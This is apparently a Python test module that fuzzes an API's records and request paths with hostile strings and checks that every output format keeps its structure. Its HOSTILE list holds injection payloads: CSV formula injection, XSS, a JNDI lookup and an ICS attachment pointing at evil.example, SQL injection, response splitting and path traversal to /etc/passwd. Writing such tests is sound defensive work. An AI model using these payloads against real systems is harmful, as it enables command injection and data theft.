"""Text that would break out of the shape it stands in: of records and of requests, in every format and header."""

import csv
import io
import json
import random
import re
from collections.abc import Callable
from itertools import cycle
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree as ET

import icalendar
import requests
import yaml
from conftest import running
from markdown_it import MarkdownIt

from api.config import Settings
from api.dataset.findings import DatasetError
from api.formats import FORMATS, formats_of
from api.releases import load
from api.resources import RESOURCES

from .faults import embedded, environ
from .hostile import answers, request, said
from .trial import ROOT, Figures

TEXTS = (
    "name",
    "title",
    "summary",
    "definition",
    "paraphrase",
    "publisher",
    "value",
    "of",
    "reason",
    "text",
)  # keys of plain text
PLAIN = "plain words"
HOSTILE = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "'=1", '"=1"', 'a","b', "a;b", 'a"\r\n=1,2', "a | b | c",
    "</title><script>alert(1)</script>", "]]>", "<![CDATA[x]]>", "&lt;&xxe;&#0;", '"/><evil a="', "<!DOCTYPE x [<!ENTITY y 'z'>]>", "<?xml?>", "--><!--",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil", "x\nATTACH:http://evil.example/", "a\\n;b\\,c:d", "x" * 200 + "\r\n folded", "é" * 80,
    '"},{"id":"evil"', '\\"}]}', "\\u0000", "</script>", "\u2028var x", "\u0085", "\x7f", "\x00", "\x1b[31m", "\ud7ff\ufffe", "\u202egnp.exe", "😀",
    "}, @article{evil, title={x}", "%s %(x)s {0} {x}", "${jndi:ldap://evil.example/}", "{{7*7}}", "'; DROP TABLE events; --", "x\r\nX-Evil: yes\r\n\r\nHTTP/1.1 200 OK",
    ">; rel=\"evil\"", "http://evil.example/", "javascript:alert(1)", "../../etc/passwd", "\ufeff=1", " =1", "＝1+1",
)  # fmt: skip


def shape(value: Any) -> Any:
    """A JSON value without what it says."""
    if isinstance(value, dict):
        return {key: shape(inner) for key, inner in sorted(value.items())}
    if isinstance(value, list):
        return sorted(map(shape, value), key=repr)
    return "text" if isinstance(value, str) else "other"


def tags(text: str) -> list[Any]:
    """The elements of an XML document with their attributes, and nothing of what they say."""
    return sorted((element.tag, tuple(sorted(element.attrib))) for element in ET.fromstring(text).iter())


def cells(text: str) -> list[int]:
    """How many cells each row of a table has; none of them is a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return [len(row) for row in rows]


def entries(text: str) -> list[Any]:
    """The components of a calendar with the names of their properties."""
    return sorted(
        (part.name, sorted(name for name, _ in part.property_items(recursive=False)))
        for part in icalendar.Calendar.from_ical(text).walk()
    )


def blocks(text: str) -> list[Any]:
    """The blocks and marks of a Markdown document, and nothing of what they say."""
    tokens = MarkdownIt().enable("table").parse(text)
    return sorted((token.type, token.level, sorted(child.type for child in token.children or ())) for token in tokens)


READERS: dict[str, Callable[[str], Any]] = {
    "json": lambda text: shape(json.loads(text)["data"]),
    "ndjson": lambda text: sorted((shape(json.loads(line)) for line in text.splitlines()), key=repr),
    "csv": cells,
    "jsonld": lambda text: shape(json.loads(text)),
    "geojson": lambda text: shape(json.loads(text)),
    "atom": tags,
    "graphml": tags,
    "ics": entries,
    "md": blocks,
}


def reader(word: str) -> Callable[[str], Any]:
    """What reads a format; one that nobody reads here is text with a line for each record."""
    return READERS.get(word, lambda text: text.count("\n"))


def poisoned(folder: Path, texts: Callable[[], str]) -> None:
    """Puts a text into every place of plain text in a dataset."""

    def put(value: Any) -> Any:
        if isinstance(value, list):
            return [put(inner) for inner in value]
        if isinstance(value, dict):
            return {key: texts() if key in TEXTS and worded(inner) else put(inner) for key, inner in value.items()}
        return value

    def worded(value: Any) -> bool:
        return isinstance(value, str) and not re.fullmatch(r"[\d.]+", value)

    for path in sorted(folder.glob("*/*.yaml")):
        record = yaml.load(path.read_text(encoding="utf-8"), yaml.BaseLoader)  # it makes nothing but text
        path.write_text(yaml.safe_dump(put(record), allow_unicode=True, sort_keys=False), encoding="utf-8")


def accepted(settings: Settings, texts: list[str]) -> bool:
    """Whether a dataset may say these, one after the other, and is served then."""
    following = cycle(texts)
    poisoned(settings.dataset, lambda: next(following))
    try:
        load.load(settings)[0].close()
    except DatasetError as error:
        assert error.findings
        return False
    return True


def shapes(url: str) -> dict[tuple[str, str], Any]:
    """What the ecosystem's readers make of every format of every kind, apart from the words in it."""
    found = {}
    for kind in (resource.kind for resource in RESOURCES):
        for word in formats_of(kind):
            safe = "&spreadsheet=true" if word == "csv" else ""  # elsewhere a cell says what the record says
            answer = requests.get(f"{url}/v1/{kind}?format={word}{safe}", timeout=30)
            assert answer.headers["Content-Type"].startswith(FORMATS[word].media_type)
            found[kind, word] = reader(word)(answer.content.decode())
    return found


def records(times: int, folder: Path) -> Figures:
    """`times` datasets that say hostile things wherever they may: each shape holds what it holds of harmless words."""
    chance = random.Random(6)
    told = {"datasets": 0, "answers": 0, "refused": 0}
    fine: list[str] = []
    with embedded(folder) as settings:
        assert accepted(settings, [PLAIN])
        with running("--no-load", cwd=ROOT, **environ(settings)) as (url, _):
            harmless = shapes(url)
            for n in range(times):
                texts = [HOSTILE[n]] if n < len(HOSTILE) else chance.sample(fine, k=3)
                if not accepted(settings, texts):
                    told["refused"] += 1
                    continue
                fine += texts
                for place, found in shapes(url).items():
                    assert found == harmless[place], (place, texts)
                told["datasets"] += 1
                told["answers"] += len(harmless)
    return {**told, "texts": len(HOSTILE)}


PLACES = (
    "/v1/events?q={}", "/v1/events?place={}", "/v1/events?sort={}", "/v1/events?{}=1", "/v1/events?format={}", "/v1/events/{}", "/{}", "/v1/search?q={}",
    "/v1/suggest?q={}", "/v1/events?format=atom&limit=1&q={}", "/v1/events?format=csv&spreadsheet=true&q={}", "/v1/events?format=ics&q={}", "/v1/events?cite=true&q={}",
    "/v1/cite/events?q={}", "/v1/network?format=graphml&q={}", "/v1/topics?limit=1&cursor={}", "/v1/events?ids={}", "/v1/changes?kind={}", "/v1/releases/{}/x",
)  # fmt: skip


def asked(times: int, folder: Path) -> Figures:
    """Every hostile text in every place of an address and in a field: no header more than without it, no answer that is no answer."""
    told = {"requests": 0, "texts": len(HOSTILE), "places": len(PLACES) + 1}
    with embedded(folder) as settings, running("--no-load", cwd=ROOT, **environ(settings)) as (url, _):
        for text in HOSTILE[:times]:
            for place in PLACES:
                line = f"GET {place.format(quote(text, safe=''))} HTTP/1.1".encode()
                judged(place, text, said(url, request(line, b"Connection: close")))
                told["requests"] += 1
            field = b"X-Request-ID: " + re.sub(r"[\r\n\x00]", "", text).encode()
            judged("X-Request-ID", text, said(url, request(b"GET /v1/topics HTTP/1.1", field, b"Connection: close")))
            told["requests"] += 1
    return told


def judged(place: str, text: str, found: bytes) -> None:
    """That an answer is one, with the fields of an answer, and that its readers read it."""
    ((status, headers, body),) = answers(found)
    assert status in (200, 308, 400, 404, 410, 414), (place, text, status)
    assert "x-evil" not in headers, (place, text)
    assert re.fullmatch(r"[A-Za-z0-9._~+/=:@-]{1,128}", headers["x-request-id"]), (place, text)
    media_type = headers["content-type"].split(";")[0]
    if media_type in ("application/json", "application/problem+json"):
        json.loads(body)
    else:
        word = next((word for word, format in FORMATS.items() if format.media_type == media_type), None)
        assert word or status == 308, (place, text, media_type)
        if word:
            reader(word)(body.decode())
